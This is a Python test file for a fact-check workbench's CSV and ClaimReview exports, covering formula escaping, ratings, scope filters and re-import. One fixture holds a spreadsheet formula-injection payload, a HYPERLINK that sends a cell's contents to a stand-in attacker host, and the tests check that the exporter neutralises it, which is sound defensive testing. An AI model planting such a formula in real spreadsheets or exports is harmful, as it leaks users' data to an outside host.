"""CSV and ClaimReview exports: what a spreadsheet and a fact-check aggregator read."""

from __future__ import annotations

import csv
import json
from datetime import UTC, datetime
from pathlib import Path

from workbench.exchange.formats import (
    CSV_COLUMNS,
    NO_VERDICT,
    SUMMARY_LIMIT,
    LeftOut,
    Publication,
    short_summary,
    write_claimreview,
    write_csv,
)
from workbench.exchange.scope import ExportScope, gather
from workbench.workspace import Workspace

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _claims(ws: Workspace, data: Path) -> dict[str, str]:
    confirmed = ws.claims.create(
        "Convoy seen on the coast road",
        source=("telegram", "@coast_watch"),
        source_reliability="B",
        original_text="شوهدت قافلة على الطريق الساحلي",
        original_language="ar",
        translation="Convoy seen on the coast road",
        post_url="https://t.me/coast_watch/101",
        posted_at="2026-03-01T08:00:00+00:00",
        place_name="Coast road",
        latitude="-33.5",
        longitude="151.25",
        tags=["convoy", "coast"],
        credibility="2",
    )
    refuted = ws.claims.create(
        FORMULA,
        source=("twitter", "@reposter"),
        post_url="https://twitter.com/reposter/status/7",
        posted_at="2026-03-02T09:30:00+00:00",
        notes="@mention at the start",
    )
    open_claim = ws.claims.create("+1 more sighting, unverified", tags=["-minus"])
    picture = data / "exif" / "Canon_40D.jpg"
    ws.media.ingest([picture], claim_id=confirmed.id)
    ws.media.ingest([picture], claim_id=refuted.id)  # the same picture, reposted
    ws.claims.set_status(confirmed.id, "confirmed", "Geolocated: matches the coast road.")
    ws.claims.set_status(refuted.id, "refuted", "The picture is from an earlier post.")
    return {"confirmed": confirmed.id, "refuted": refuted.id, "open": open_claim.id}


def test_csv_is_one_row_per_claim_and_opens_safely(
    workspace: Workspace, data: Path, tmp_path: Path
) -> None:
    ids = _claims(workspace, data)
    out = tmp_path / "claims.csv"
    write_csv(gather(workspace, ExportScope()), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: spreadsheets pick UTF-8
    assert b"\r\n" in raw
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    assert tuple(rows[0]) == CSV_COLUMNS
    by_id = {row["id"]: row for row in rows}
    assert set(by_id) == set(ids.values())
    confirmed, refuted, open_row = (by_id[ids[k]] for k in ("confirmed", "refuted", "open"))
    assert confirmed["original_text"] == "شوهدت قافلة على الطريق الساحلي"
    assert confirmed["latitude"] == "-33.5"  # a number stays a number
    assert confirmed["source_handle"] == "'@coast_watch"  # would start a formula
    assert confirmed["tags"] == "convoy; coast" and confirmed["credibility"] == "2"
    # The refuted claim's picture is this one's very file: the strongest "seen before".
    assert confirmed["seen_before"] == refuted["seen_before"] == "yes"
    assert open_row["seen_before"] == "no" and len(confirmed["media_sha256"]) == 64
    assert refuted["text"] == "'" + FORMULA
    assert open_row["text"] == "'+1 more sighting, unverified"
    assert open_row["tags"] == "'-minus" and open_row["status"] == "unconfirmed"
    assert refuted["posted_at"] == "2026-03-02T09:30:00+00:00"
    for row in rows:  # no cell a spreadsheet would run
        for column, cell in row.items():
            if column not in ("latitude", "longitude"):
                assert not cell.startswith(("=", "+", "-", "@")), (column, cell)


def test_claimreview_lists_decided_claims_with_their_rating_and_appearances(
    workspace: Workspace, data: Path, tmp_path: Path
) -> None:
    ids = _claims(workspace, data)
    out = tmp_path / "claimreview.jsonld"
    publication = Publication("https://desk.example.org/reviews/", "en")
    written, left_out = write_claimreview(gather(workspace, ExportScope()), out, publication)
    document = json.loads(out.read_text(encoding="utf-8"))
    assert document["@context"] == "https://schema.org"
    reviews = {r["identifier"]: r for r in document["@graph"]}
    assert set(reviews) == {ids["confirmed"], ids["refuted"]}  # no verdict, no review
    assert written == 2 and left_out == [LeftOut(ids["open"], NO_VERDICT)]  # and it says so
    confirmed = reviews[ids["confirmed"]]
    assert confirmed["@type"] == "ClaimReview"
    assert confirmed["url"] == f"https://desk.example.org/reviews/{ids['confirmed']}"
    # The review is named in the desk's language; the claim keeps its own.
    assert confirmed["claimReviewed"] == "Convoy seen on the coast road"
    assert confirmed["inLanguage"] == "en"
    assert confirmed["itemReviewed"]["inLanguage"] == "ar"
    assert confirmed["reviewRating"] == {
        "@type": "Rating",
        "ratingValue": 5,
        "bestRating": 5,
        "worstRating": 1,
        "alternateName": "Confirmed",
    }
    assert confirmed["author"] == {"@type": "Person", "name": "tester"}
    assert confirmed["datePublished"] == datetime.now(UTC).date().isoformat()
    assert confirmed["reviewBody"] == "Geolocated: matches the coast road."
    item = confirmed["itemReviewed"]
    assert item["author"] == {"@type": "Person", "name": "@coast_watch"}
    assert item["datePublished"] == "2026-03-01"
    refuted = reviews[ids["refuted"]]
    assert refuted["reviewRating"]["ratingValue"] == 1
    assert refuted["reviewRating"]["alternateName"] == "Refuted"
    # The same picture was posted twice: the earlier post is its first appearance.
    first = {"@type": "CreativeWork", "url": "https://t.me/coast_watch/101"}
    assert refuted["itemReviewed"]["firstAppearance"] == first
    assert {a["url"] for a in refuted["itemReviewed"]["appearance"]} == {
        "https://t.me/coast_watch/101",
        "https://twitter.com/reposter/status/7",
    }


def test_scope_narrows_what_is_exported(workspace: Workspace, data: Path, tmp_path: Path) -> None:
    ids = _claims(workspace, data)
    only_coast = gather(workspace, ExportScope(tags=("coast",)))
    assert [c.claim.id for c in only_coast.claims] == [ids["confirmed"]]
    decided = gather(
        workspace,
        ExportScope(
            statuses=("confirmed", "refuted"),
            posted_from=datetime(2026, 3, 2, tzinfo=UTC),
        ),
    )
    assert [c.claim.id for c in decided.claims] == [ids["refuted"]]
    [seen] = decided.claims[0].seen_before
    assert seen.other_claim_ids == (ids["confirmed"],)


def test_the_csv_export_imports_back_into_another_workspace(
    workspace: Workspace, data: Path, tmp_path: Path
) -> None:
    from workbench.exchange.importers import import_posts
    from workbench.workspace import Location

    ids = _claims(workspace, data)
    out = tmp_path / "claims.csv"
    write_csv(gather(workspace, ExportScope()), out)
    with Workspace(Location.of(tmp_path / "other")) as other:
        summary = import_posts(other, out)
        assert summary.refused is None and len(summary.added) == 3
        back = {c.text: c for c in other.claims.find()}
    refuted = back[FORMULA]  # the guard is gone again
    assert refuted.source is not None and refuted.source.handle == "@reposter"
    assert refuted.status == "refuted" and refuted.rationale.startswith("The picture")
    confirmed = back["Convoy seen on the coast road"]
    assert confirmed.original_text == "شوهدت قافلة على الطريق الساحلي"
    assert (confirmed.latitude, confirmed.tags) == (-33.5, ("convoy", "coast"))
    assert back["+1 more sighting, unverified"].tags == ("-minus",)
    assert ids["refuted"] not in {c.id for c in back.values()}  # new claims, new ids


def test_the_csv_export_says_which_claims_were_seen_before(
    workspace: Workspace, data: Path, tmp_path: Path
) -> None:
    from workbench.exchange import export

    first = workspace.claims.create("first post")
    again = workspace.claims.create("the same picture, re-encoded")
    alone = workspace.claims.create("another picture")
    workspace.media.ingest([data / "neardup" / "hopper.jpg"], claim_id=first.id)
    workspace.media.ingest([data / "neardup" / "hopper.png"], claim_id=again.id)
    workspace.media.ingest([data / "exif" / "Canon_40D.jpg"], claim_id=alone.id)
    out = tmp_path / "claims.csv"
    export(workspace, "csv", ExportScope(), out)
    rows = {r["text"]: r["seen_before"] for r in csv.DictReader(out.open(encoding="utf-8-sig"))}
    assert rows == {
        "first post": "yes",
        "the same picture, re-encoded": "yes",
        "another picture": "no",
    }


def test_claim_reviewed_is_a_short_summary() -> None:
    """Google's rule: ``claimReviewed`` a short summary, under 75 characters."""
    long_text = "Fighters entered the village from the north at dawn, " * 28  # 1,500 chars
    summary = short_summary(long_text)
    assert len(summary) <= SUMMARY_LIMIT and summary.endswith("…")
    assert long_text.startswith(summary[:-1]) and long_text[len(summary) - 1] == " "  # a word
    assert short_summary("Short claim.\nSecond  line") == "Short claim. Second line"
    unbroken = "x" * 200  # no word to cut at: cut inside it, still marked
    assert short_summary(unbroken) == "x" * (SUMMARY_LIMIT - 1) + "…"
    arabic = "شوهدت قافلة على الطريق الساحلي " * 5
    assert len(short_summary(arabic)) <= SUMMARY_LIMIT


def test_the_analysts_summary_names_the_review_and_no_url_without_a_base(
    workspace: Workspace, tmp_path: Path
) -> None:
    long_text = "A long account of what was claimed. " * 50
    claim = workspace.claims.create(long_text, summary="Convoy on the coast road was staged")
    other = workspace.claims.create(long_text)
    for c in (claim, other):
        workspace.claims.set_status(c.id, "refuted", "Staged.")
    out = tmp_path / "reviews.jsonld"
    write_claimreview(gather(workspace, ExportScope()), out)  # no publication given
    reviews = {r["identifier"]: r for r in json.loads(out.read_text("utf-8"))["@graph"]}
    assert reviews[claim.id]["claimReviewed"] == "Convoy on the coast road was staged"
    assert reviews[other.id]["claimReviewed"] == short_summary(long_text)
    assert all("url" not in r for r in reviews.values())  # not made up
